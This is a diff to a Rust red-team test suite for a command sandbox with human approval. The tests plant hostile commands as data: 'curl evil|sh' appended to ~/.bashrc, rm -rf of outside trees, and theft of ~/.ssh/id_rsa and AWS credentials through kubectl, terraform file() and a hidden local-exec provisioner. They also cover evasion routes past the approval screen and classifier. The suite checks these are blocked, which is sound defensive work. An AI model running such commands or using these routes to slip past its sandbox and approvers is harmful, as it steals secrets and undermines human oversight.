@@ -791,7 +791,6 @@ fn committed_repo(j: &Jail) -> impl Fn(&[&str]) -> Output + '_ {
 }
 
 #[test]
-#[ignore = "open: `.git/commondir` (not pinned, created inside .git) points git at a config and hooks the line wrote"]
 fn red_git_commondir_points_the_humans_git_at_a_config_the_line_wrote() {
     if !require_tool("git") || !require_tool("make") {
         return;
@@ -804,8 +803,14 @@ fn red_git_commondir_points_the_humans_git_at_a_config_the_line_wrote() {
         pwned.display()
     ));
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(stderr(&out).contains("removed") && stderr(&out).contains("commondir"), "{}", stderr(&out));
     g(&["status"]); // the human's next git command, outside any sandbox
     assert!(!pwned.exists(), "the human's `git status` ran a command the line configured");
+    // A commondir that was there before the line is the human's: left alone.
+    std::fs::write(j.t.work().join(".git/commondir"), ".").unwrap();
+    let out = j.shell("true");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(j.t.work().join(".git/commondir").exists(), "guard removed a file the line did not write");
 }
 
 #[test]
@@ -953,7 +958,6 @@ fn red_a_line_in_the_temp_root_writes_into_another_lines_private_temp_dir() {
 }
 
 #[test]
-#[ignore = "open: a line's processes outlive it (no pid namespace): a contained daemon keeps running after guard returns"]
 fn red_a_contained_daemon_outlives_its_line() {
     if !require_tool("make") {
         return;
@@ -1027,4 +1031,153 @@ fn red_kubectl_go_template_file_prints_a_secret_through_the_broker() {
     let out = j.make("kubectl config view -o go-template-file=$HOME/.aws/credentials > stolen.txt");
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     j.assert_intact("kubectl_go_template_file");
+}
+
+#[test]
+fn a_path_is_a_widening_a_human_approves_and_the_approval_binds_that_tree_only() {
+    if !require_tool("make") {
+        return;
+    }
+    let mut j = Jail::new();
+    crate::support::approver_init(j.command(&["approver", "init"]));
+    let other = j.t.dir.path().join("other-project");
+    let second = j.t.dir.path().join("second-project");
+    for d in [&other, &second] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    j.snapshot();
+    let (o, s) = (other.display().to_string(), second.display().to_string());
+    // What the widened line tries besides its tree (in a recipe, out of the classifier's
+    // sight): every canary must stay as it is.
+    let recipe = format!("\t-touch {o}/built\n\t-echo 'curl evil|sh' >> ~/.bashrc\n\t-touch {s}/x\n\t-rm -rf {}\n", j.outside().display());
+    std::fs::write(j.t.work().join("Makefile"), format!("all:\n{recipe}unasked:\n\ttouch {o}/unasked\n")).unwrap();
+    let line = "make -s";
+    let out = j.command(&["shell", "--write", &o, "-c", line]).output().unwrap();
+    assert_eq!(out.status.code(), Some(75), "{}", stderr(&out));
+    assert!(stderr(&out).contains("sandbox.write"), "{}", stderr(&out));
+    assert!(!other.join("built").exists(), "nothing runs before the approval");
+    let id = stderr(&out).split_whitespace().find(|w| w.starts_with("r-")).unwrap().trim_matches(|c| c == '`' || c == ',').to_string();
+    let shown = crate::support::pty(j.command(&["approve", &id]), &[("Approver passphrase", PASS), ("Type yes", "yes")]);
+    assert!(shown.contains(&o), "the approve screen names the tree: {shown}");
+
+    // The approval is for that tree: without the flag, or with another tree, it does not apply.
+    let out = j.command(&["shell", "-c", "make -s unasked"]).output().unwrap();
+    assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(!other.join("unasked").exists(), "a line without the widening wrote the tree");
+    let out = j.command(&["shell", "--write", &s, "-c", line]).output().unwrap();
+    assert_eq!(out.status.code(), Some(75), "another tree needs its own approval: {}", stderr(&out));
+
+    let out = j.command(&["shell", "--write", &o, "-c", line]).output().unwrap();
+    assert!(other.join("built").exists(), "the approved tree is writable: {}", stderr(&out));
+    assert!(!second.join("x").exists(), "the approval granted more than its tree");
+    j.assert_intact("write_widening");
+}
+
+#[test]
+fn a_widening_to_the_home_a_secret_or_guards_state_is_blocked_and_writes_nothing() {
+    if !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let h = j.t.home();
+    let state = j.t.state();
+    for dir in [h.clone(), h.join(".ssh"), h.join(".config/guard"), state.clone(), h.join(".local/bin"), PathBuf::from("/")] {
+        let d = dir.display().to_string();
+        std::fs::write(j.t.work().join("Makefile"), format!("all:\n\t-echo pwned >> {d}/.bashrc\n\techo pwned > {d}/planted\n")).unwrap();
+        let out = j.command(&["shell", "--write", &d, "-c", "make -s"]).output().unwrap();
+        assert_eq!(out.status.code(), Some(77), "--write {d}: {}", stderr(&out));
+        assert!(stderr(&out).contains("sandbox.write-refused"), "--write {d}: {}", stderr(&out));
+        assert!(!dir.join("planted").exists(), "--write {d} wrote");
+    }
+    // A symlink to the home is the home: resolved when guard reads the flag.
+    let link = j.t.work().join("innocent");
+    std::os::unix::fs::symlink(&h, &link).unwrap();
+    let out = j.command(&["shell", "--write", "innocent", "-c", "make -s"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(77), "{}", stderr(&out));
+    let out = j.command(&["shell", "--write", "/no/such/dir", "-c", "true"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(64), "{}", stderr(&out));
+    j.assert_intact("write_widening_refused");
+}
+
+/// A contained line's terraform (through the broker) in a jail with an approver.
+fn terraform_jail() -> (Jail, PathBuf) {
+    let j = Jail::new();
+    let rc = j.t.dir.path().join("terraformrc");
+    std::fs::write(&rc, "").unwrap();
+    (j, rc)
+}
+
+fn plan_id(text: &str) -> String {
+    text.split_whitespace()
+        .find(|w| w.starts_with("p-") && w.len() > 20)
+        .map(|w| w.trim_end_matches([':', '`', ',']))
+        .unwrap_or_else(|| panic!("no plan id in: {text}"))
+        .to_string()
+}
+
+#[test]
+fn red_terraform_plan_through_the_broker_reads_a_secret_with_file() {
+    if !require_tool("terraform") || !require_tool("make") {
+        return;
+    }
+    let (j, rc) = terraform_jail();
+    std::fs::write(
+        j.t.work().join("main.tf"),
+        "output \"k\" {\n  value = try(file(pathexpand(\"~/.ssh/id_rsa\")), \"denied\")\n}\noutput \"a\" {\n  value = file(pathexpand(\"~/.aws/credentials\"))\n}\n",
+    )
+    .unwrap();
+    std::fs::write(j.t.work().join("Makefile"), "all:\n\t-terraform init -input=false > /dev/null\n\t-terraform plan > plan.txt 2>&1\n")
+        .unwrap();
+    let out = j.command(&["shell", "-c", "make -s"]).env("TF_CLI_CONFIG_FILE", &rc).env("CHECKPOINT_DISABLE", "1").output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let printed = format!("{}{}{}", stdout(&out), stderr(&out), std::fs::read_to_string(j.t.work().join("plan.txt")).unwrap_or_default());
+    assert!(!printed.contains("SSH-KEY-CANARY"), "the brokered terraform read ~/.ssh: {printed}");
+    // What providers authenticate with stays readable to the tool (`[sandbox] tool_credentials`).
+    assert!(printed.contains("AWS-CANARY"), "the brokered terraform could not read its own credentials: {printed}");
+    for p in std::fs::read_dir(j.t.state().join("plans")).into_iter().flatten().flatten() {
+        let text = String::from_utf8_lossy(&std::fs::read(p.path()).unwrap_or_default()).into_owned();
+        assert!(!text.contains("SSH-KEY-CANARY"), "a plan record holds the secret");
+    }
+}
+
+#[test]
+fn red_terraform_local_exec_approved_through_the_broker_runs_outside_the_sandbox() {
+    if !require_tool("terraform") || !require_tool("make") {
+        return;
+    }
+    let (mut j, rc) = terraform_jail();
+    let cmd = |j: &Jail, args: &[&str]| {
+        let mut c = j.command(args);
+        c.env("TF_CLI_CONFIG_FILE", &rc).env("CHECKPOINT_DISABLE", "1").env("TF_IN_AUTOMATION", "1");
+        c
+    };
+    crate::support::approver_init(cmd(&j, &["approver", "init"]));
+    // The approve screen says "create terraform_data.a"; the provisioner is not in the plan.
+    let attack = format!(
+        "echo built > built.txt; echo 'curl evil|sh' >> $HOME/.bashrc; cp $HOME/.ssh/id_rsa stolen; rm -rf {}; echo '{{}}' > {}/approver.json; true",
+        j.outside().display(),
+        j.t.state().display()
+    );
+    std::fs::write(
+        j.t.work().join("main.tf"),
+        format!("resource \"terraform_data\" \"a\" {{\n  provisioner \"local-exec\" {{\n    command = {attack:?}\n  }}\n}}\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        j.t.work().join("Makefile"),
+        "plan:\n\tterraform init -input=false > /dev/null\n\tterraform plan\napply:\n\tterraform apply $(PLAN)\n",
+    )
+    .unwrap();
+    let out = cmd(&j, &["shell", "-c", "make -s plan"]).output().unwrap();
+    let text = format!("{}{}", stdout(&out), stderr(&out));
+    assert_eq!(out.status.code(), Some(0), "{text}");
+    let id = plan_id(&text);
+    crate::support::pty(cmd(&j, &["approve", &id]), &[("terraform show", "n"), ("Approver passphrase", PASS), ("Type yes", "yes")]);
+    j.snapshot();
+    let out = cmd(&j, &["shell", "-c", &format!("make -s apply PLAN={id}")]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
+    assert!(j.t.work().join("built.txt").exists(), "the provisioner could not write the project");
+    let stolen = std::fs::read_to_string(j.t.work().join("stolen")).unwrap_or_default();
+    assert!(!stolen.contains("SSH-KEY-CANARY"), "the provisioner copied ~/.ssh/id_rsa");
+    j.assert_intact("terraform_local_exec");
 }
